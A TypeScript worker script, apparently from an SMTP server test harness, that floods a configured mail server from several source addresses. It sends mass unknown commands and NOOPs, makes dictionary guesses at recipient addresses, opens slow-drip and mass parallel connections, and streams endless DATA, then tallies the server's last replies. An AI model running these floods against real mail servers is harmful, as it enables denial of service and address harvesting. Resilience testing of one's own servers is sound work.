/** Strangers: each source repeats one flood of threats S7 to S12 and S16 until time is up. */
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { z } from 'zod';
import { monotonicMs } from '../harness/statistics.ts';
import { receiveJob, report } from './job.ts';

const Job = z.object({
  smtp: z.object({ host: z.string(), port: z.number() }),
  sources: z.array(z.string()),
  victim: z.string(),
  durationMs: z.number(),
});

/** Milliseconds between two attempts of one source: without any, this process is the flood's bound. */
const PAUSE_MS = 20;
/** Milliseconds that a flood waits for an end that does not come. */
const PATIENCE_MS = 120_000;

const MANY_COMMANDS = 10_000;
const MANY_CONNECTIONS = 500;
/** Milliseconds between two bytes of S11. */
const DRIP_MS = 50_000;
const DRIPPING_CONNECTIONS = 30;
const PIECE = Buffer.alloc(64 * 1_024, `${'X'.repeat(126)}\r\n`);

const job = await receiveJob(Job);
const endsAt = monotonicMs() + job.durationMs;
const counts: Record<string, Record<string, number>> = {};

function count(flood: string, answer: string): void {
  const answers = counts[flood] ?? {};
  answers[answer] = (answers[answer] ?? 0) + 1;
  counts[flood] = answers;
}

/** Says all of it, and counts how the connection ended: by its last reply. */
function attempt(flood: string, source: string, lines: string, then?: (socket: Socket) => void) {
  return new Promise<void>((resolve) => {
    const socket = connect({ ...job.smtp, localAddress: source });
    socket.setTimeout(PATIENCE_MS, () => socket.destroy());
    let last = 'nothing';
    socket.on('data', (chunk: Buffer) => {
      // The end is enough: what counts is the last reply.
      last = /(\d{3})[ -][^\r\n]*\r\n$/.exec(chunk.toString('latin1').slice(-512))?.[1] ?? last;
    });
    // Who talks before the greeting is closed for that, and does no more harm.
    socket.once('data', (greeting: Buffer) => {
      if (!greeting.toString('latin1').startsWith('220')) return;
      socket.write(`EHLO flood.example\r\n${lines}`);
      then?.(socket);
    });
    socket.on('error', () => {});
    socket.once('close', () => {
      count(flood, `closed after ${last}`);
      resolve();
    });
  });
}

const repeated = (line: (index: number) => string, times: number) =>
  Array.from({ length: times }, (_, index) => `${line(index)}\r\n`).join('');

type Flood = (source: string) => Promise<unknown>;

const domain = job.victim.slice(job.victim.indexOf('@') + 1);
const unknown = repeated((index) => `JOKE ${index}`, 10);
const noops = repeated(() => 'NOOP', MANY_COMMANDS);
const guesses = `MAIL FROM:<a@flood.example>\r\n${repeated((index) => `RCPT TO:<amberfox${index}@${domain}>`, MANY_COMMANDS)}`;
const recipients = `MAIL FROM:<a@flood.example>\r\n${repeated(() => `RCPT TO:<${job.victim}>`, MANY_COMMANDS)}`;

const FLOODS: Readonly<Record<string, Flood>> = {
  'S7 unknown commands': (source) => attempt('S7 unknown commands', source, unknown),
  'S8 NOOP': (source) => attempt('S8 NOOP', source, noops),
  'S9 dictionary': (source) => attempt('S9 dictionary', source, guesses),
  'S10 recipients': (source) => attempt('S10 recipients', source, `${recipients}RSET\r\nQUIT\r\n`),
  'S11 drip': (source) =>
    Promise.all(Array.from({ length: DRIPPING_CONNECTIONS }, () => drip(source))),
  'S12 connections': (source) =>
    Promise.all(
      Array.from({ length: MANY_CONNECTIONS }, () =>
        attempt('S12 connections', source, 'QUIT\r\n'),
      ),
    ),
  'S16 endless DATA': (source) => endless(source),
};

function drip(source: string): Promise<void> {
  return attempt('S11 drip', source, '', (socket) => {
    socket.setTimeout(0);
    const timer = setInterval(() => socket.write('N'), DRIP_MS);
    const end = setTimeout(() => socket.destroy(), Math.max(0, endsAt - monotonicMs()));
    socket.once('close', () => {
      clearInterval(timer);
      clearTimeout(end);
    });
  });
}

function endless(source: string): Promise<void> {
  const opening = `MAIL FROM:<a@flood.example>\r\nRCPT TO:<${job.victim}>\r\nDATA\r\n`;
  return attempt('S16 endless DATA', source, opening, (socket) => {
    const pour = () => {
      while (socket.writable && socket.write(PIECE));
    };
    socket.on('drain', pour);
    pour();
  });
}

async function repeat(flood: Flood, source: string): Promise<void> {
  while (monotonicMs() < endsAt) {
    await flood(source);
    await delay(PAUSE_MS);
  }
}

const floods = Object.values(FLOODS);
for (const [index, source] of job.sources.entries()) {
  const flood = floods[index % floods.length];
  if (flood !== undefined) void repeat(flood, source);
}
await delay(Math.max(0, endsAt - monotonicMs()));
await report({ kind: 'counts', counts });
